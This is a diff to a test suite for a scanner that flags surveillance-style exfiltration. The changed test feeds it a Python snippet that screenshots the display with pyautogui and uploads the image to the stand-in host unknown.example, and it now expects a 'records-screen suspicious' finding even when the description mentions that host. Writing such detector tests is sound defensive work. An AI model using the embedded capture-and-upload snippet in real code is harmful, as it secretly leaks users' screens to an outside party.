@@ -13,10 +13,12 @@ describe("exfiltration: surveillance", () => {
     ).toEqual(["exfiltration.records-keys suspicious a.py"]);
   });
 
-  it("asks about pictures of the screen that keep leaving or go where no page says, not about one picture", async () => {
+  it("asks about pictures of the screen that leave for a host that nobody knows, whatever the pages say", async () => {
     const shot =
       'import pyautogui, requests\npyautogui.screenshot("s.png")\nrequests.post("https://unknown.example/u", files={"f": open("s.png", "rb")})\n';
-    expect(await of(shot, "Shows pictures on unknown.example.")).toEqual([]);
+    expect(await of(shot, "Shows pictures on unknown.example.")).toEqual([
+      "exfiltration.records-screen suspicious a.py",
+    ]);
     expect(await of(shot)).toEqual(["exfiltration.records-screen suspicious a.py"]);
     expect(
       await of(
